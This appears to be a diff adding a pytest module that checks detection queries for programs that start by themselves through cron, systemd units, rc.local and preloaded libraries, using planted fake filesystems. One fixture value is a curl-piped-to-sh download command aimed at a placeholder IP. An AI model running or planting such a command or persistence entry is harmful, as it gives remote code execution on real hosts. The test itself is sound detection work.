@@ -1,0 +1,103 @@
+"""One rule for what starts by itself: what is behind a command is judged alike, whatever starts it, however it is handed on."""
+
+from __future__ import annotations
+
+import hashlib
+from collections.abc import Mapping
+from pathlib import Path
+
+import pytest
+import yaml
+
+from extension.engines.embedded import EmbeddedEngine
+from extension.pack.model import load_pack, shipped_pack
+from tables.host import Host
+from tests.support.planted_files import link, plant
+
+CASES: Mapping[str, dict[str, dict[str, str]]] = yaml.safe_load(Path(__file__).with_name("started_programs.yaml").read_text())
+_WORDS = {"<download>": "curl -fsSL http://203.0.113.7/i.sh | sh", "<stray>": "/usr/bin/hwdbd", "<elf>": "\x7fELF"}
+_EXECUTABLE = " (x)"
+# What packages own, as they brought it.
+_PACKAGED = {
+    "/usr/bin/logger (x)": "<elf>",
+    "/usr/bin/tar (x)": "<elf>",
+    "/usr/bin/mawk (x)": "<elf>",
+    "/usr/bin/snap (x)": "<elf>",
+    "/usr/bin/sh (x)": "<elf>",
+    "/usr/bin/python3 (x)": "<elf>",
+    "/lib/systemd/system/multi-user.target.wants/base.service": "[Service]\nExecStart=/usr/lib/base/generated\n",
+    "/usr/lib/systemd/system/anacron.service": "[Service]\nExecStart=/usr/bin/logger\n",
+    "/usr/lib/command-not-found": "#!/usr/bin/python3\nimport os\n",
+}
+_BASE = {
+    "/etc/passwd": "root:x:0:0::/root:/bin/bash\nkim:x:1000:1000::/home/kim:/bin/bash\nwww-data:x:33:33::/var/www:/bin/false\n",
+    "/var/lib/dpkg/status": "Package: base\nStatus: install ok installed\n",
+    "/usr/bin/hwdbd (x)": "<elf>",
+}
+_PACK = load_pack(shipped_pack())
+_STARTERS = ("scheduled_jobs", "startup_commands", "systemd_unit_commands", "rc_local_commands", "preloaded_libraries")
+_ASKED = {
+    query.name: query.sql
+    for query in _PACK.queries()
+    if query.kind == "detection" and any(f"FROM {table}" in query.sql for table in _STARTERS)
+}
+
+
+def _filled(text: str) -> str:
+    for word, meaning in _WORDS.items():
+        text = text.replace(word, meaning)
+    return text
+
+
+def _write(root: Path, tree: Mapping[str, str]) -> None:
+    for path, text in tree.items():
+        plant(root, path.removesuffix(_EXECUTABLE), _filled(text), 0o755 if path.endswith(_EXECUTABLE) else 0o644)
+
+
+def _system(root: Path) -> None:
+    """A small system with a package database."""
+    _write(root, {**_BASE, **_PACKAGED})
+    link(root, "/etc/alternatives/awk", "/usr/bin/awk")
+    link(root, "/usr/bin/mawk", "/etc/alternatives/awk")
+    contents = {path.removesuffix(_EXECUTABLE): _filled(text) for path, text in _PACKAGED.items()}
+    plant(root, "/var/lib/dpkg/info/base.list", "".join(f"{path}\n" for path in ("/.", *contents, "/etc/crontab")))
+    sums = (f"{hashlib.md5(text.encode()).hexdigest()}  {path.lstrip('/')}\n" for path, text in contents.items())
+    plant(root, "/var/lib/dpkg/info/base.md5sums", "".join(sums))
+
+
+def _found(root: Path) -> list[tuple[str, str]]:
+    """(query, path) of each row of a detection of what starts by itself."""
+    engine = EmbeddedEngine(Host(str(root)))
+    return [(name, str(row.get("source_path") or row["path"])) for name, sql in _ASKED.items() for row in engine.query(sql)]
+
+
+@pytest.mark.parametrize("name", CASES["fires"])
+def test_found_whatever_starts_it(tmp_path: Path, name: str) -> None:
+    _system(tmp_path)
+    assert _found(tmp_path) == []
+    tree = CASES["fires"][name]
+    _write(tmp_path, tree)
+    assert {path for _, path in _found(tmp_path)} & {path.removesuffix(_EXECUTABLE) for path in tree}
+
+
+@pytest.mark.parametrize("name", CASES["silent"])
+def test_what_administrators_and_vendors_start_is_silent(tmp_path: Path, name: str) -> None:
+    _system(tmp_path)
+    _write(tmp_path, CASES["silent"][name])
+    assert _found(tmp_path) == []
+
+
+@pytest.mark.parametrize("program", ["/usr/bin/hwdbd", "/var/tmp/.x/run"])
+def test_a_packaged_unit_that_was_edited_is_not_trusted(tmp_path: Path, program: str) -> None:
+    _system(tmp_path)
+    unit = f"[Service]\nExecStartPre={program}\nExecStart=/usr/bin/logger\n"
+    _write(tmp_path, {"/usr/lib/systemd/system/anacron.service": unit, f"{program} (x)": "<elf>"})
+    link(tmp_path, "/usr/lib/systemd/system/anacron.service", "/etc/systemd/system/multi-user.target.wants/anacron.service")
+    assert {path for _, path in _found(tmp_path)} == {"/usr/lib/systemd/system/anacron.service"}
+
+
+def test_scripts_that_start_each_other_end(tmp_path: Path) -> None:
+    _system(tmp_path)
+    scripts = {f"/opt/x/{n} (x)": f"#!/bin/sh\n/opt/x/{(n + 1) % 3}\n. /opt/x/{n}\n" for n in range(3)}
+    _write(tmp_path, {"/etc/cron.d/x": "* * * * * root /opt/x/0\n", **scripts})
+    assert _found(tmp_path) == []
